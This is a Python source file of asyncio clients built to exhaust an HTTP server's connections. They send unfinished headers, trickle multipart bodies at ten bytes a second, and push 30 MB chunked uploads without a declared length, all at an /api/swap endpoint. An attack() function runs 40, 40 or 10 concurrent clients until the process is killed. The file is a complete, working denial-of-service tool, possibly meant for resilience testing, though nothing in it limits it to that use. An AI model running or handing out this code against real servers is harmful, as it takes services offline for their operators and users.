"""Clients that hold a server up: unfinished headers, slow bodies, oversized uploads."""

import asyncio
from contextlib import suppress

_OVERSIZED = 30_000_000  # bytes
_PIECE = 500_000
_PART = b'--x\r\nContent-Disposition: form-data; name="photo"; filename="a"\r\n\r\n'


async def unfinished(host: str, port: int) -> None:
    """A connection whose headers never end; again when it is closed."""
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                writer.write(b"POST /api/swap HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
                while await reader.read(1):
                    pass
            finally:
                writer.transport.abort()


async def trickling(host: str, port: int) -> None:
    """An upload of ten bytes a second; again when it is closed."""
    while True:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(host, port)
            try:
                writer.write(
                    b"POST /api/swap HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n"
                    b"Content-Type: multipart/form-data; boundary=x\r\n\r\n" + _PART
                )
                while not writer.transport.is_closing():
                    writer.write(b"-")
                    await asyncio.sleep(0.1)
            finally:
                writer.transport.abort()


async def oversized(host: str, port: int) -> None:
    """An upload of 30 MB in pieces, without saying how much it will be; every five seconds."""
    piece = b"%x\r\n%s\r\n" % (_PIECE, bytes(_PIECE))
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                writer.write(
                    b"POST /api/swap HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n"
                    b"Content-Type: multipart/form-data; boundary=x\r\n\r\n"
                    b"%x\r\n%s\r\n" % (len(_PART), _PART)
                )
                for _ in range(_OVERSIZED // _PIECE):
                    writer.write(piece)
                    await writer.drain()
                await reader.read()
            finally:
                writer.transport.abort()
        await asyncio.sleep(5)


CLIENTS = {
    "unfinished headers": (unfinished, 40),
    "slow bodies": (trickling, 40),
    "oversized uploads": (oversized, 10),
}
"""What is done to the server, and by how many clients."""


async def attack(client_kind: str, url: str) -> None:
    """Until this process is killed."""
    host, port = url.removeprefix("http://").split(":")
    one, count = CLIENTS[client_kind]
    await asyncio.gather(*(one(host, int(port)) for _ in range(count)))
